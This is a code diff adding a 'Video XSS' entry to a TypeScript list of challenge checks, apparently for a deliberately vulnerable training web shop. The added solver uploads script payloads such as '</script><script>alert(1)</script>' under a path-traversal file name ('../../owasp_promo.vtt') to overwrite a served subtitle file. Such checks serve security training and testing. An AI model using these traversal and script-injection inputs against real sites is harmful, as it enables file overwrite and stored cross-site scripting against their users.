@@ -163,6 +163,22 @@ export const input: readonly Challenge[] = [
     },
   },
   {
+    name: 'Video XSS',
+    tried: 'upload subtitles, pages and scripts in place of a picture, to be served from here',
+    sign: 'an upload that is taken',
+    solved: async (shop) => {
+      const contents = [
+        'WEBVTT\n\n</script><script>alert(1)</script>',
+        '<html><script>alert(1)</script>',
+        'alert(1)',
+      ];
+      const replies = await Promise.all(
+        contents.map((content) => upload(shop, '../../owasp_promo.vtt', content)),
+      );
+      return replies.some(succeeded);
+    },
+  },
+  {
     name: 'Arbitrary File Write',
     tried: 'upload under a name that leads out of the folder, over a file that is there',
     sign: 'a picture of the shop that changed, or a path that is not of its own making',
